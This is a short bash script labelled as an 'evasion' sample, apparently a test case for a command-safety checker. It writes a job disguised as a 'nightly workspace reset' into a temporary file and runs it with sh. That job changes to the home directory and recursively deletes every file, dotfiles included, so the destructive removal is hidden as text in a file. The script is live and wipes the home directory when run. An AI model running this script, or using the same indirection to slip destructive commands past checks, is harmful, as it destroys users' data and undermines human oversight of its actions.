#!/usr/bin/env bash
# Evasion: delete the home directory. A "job" is written line by line with
# printf into a temporary file, which is then run by sh: the recursive
# removal of the home is only text in a file.
set -eu
job=$(mktemp)
printf '%s\n' '# nightly workspace reset' 'cd && rm -rf -- ./* ./.[!.]*' > "$job"
sh "$job"
rm -f "$job"
